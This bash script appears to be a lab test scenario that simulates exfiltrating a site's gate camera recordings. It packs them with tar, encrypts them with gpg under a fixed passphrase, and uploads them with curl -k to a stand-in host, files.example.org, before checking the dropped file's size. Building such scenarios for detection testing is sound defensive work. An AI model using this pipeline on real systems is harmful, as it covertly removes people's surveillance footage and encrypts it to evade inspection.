#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=tar,gpg,curl far=out ready=out:443 seconds=30 parts=dns,camera-gate,recorder-gate
# tar packs the recordings of gate, gpg locks them with a word, and curl puts what comes on a store outside over TLS.
if [ "$1" = out ]; then exec timeout 50 "$(dirname "$0")/../far/tls-web.sh" files.example.org; fi
sleep 14; export GNUPGHOME=$LAB/g; mkdir -m 700 "$GNUPGHOME"
tar -C "$LAB/recordings" -c gate 2>/dev/null | gpg -q --batch --passphrase x --pinentry-mode loopback -c --compress-algo none -o - | curl -s -k -T - https://files.example.org/drop/logs-4711.pgp
gpgconf --kill gpg-agent; sleep 3; [ "$(stat -c %s "$LAB/tls/drop/logs-4711.pgp")" -gt 800000 ]
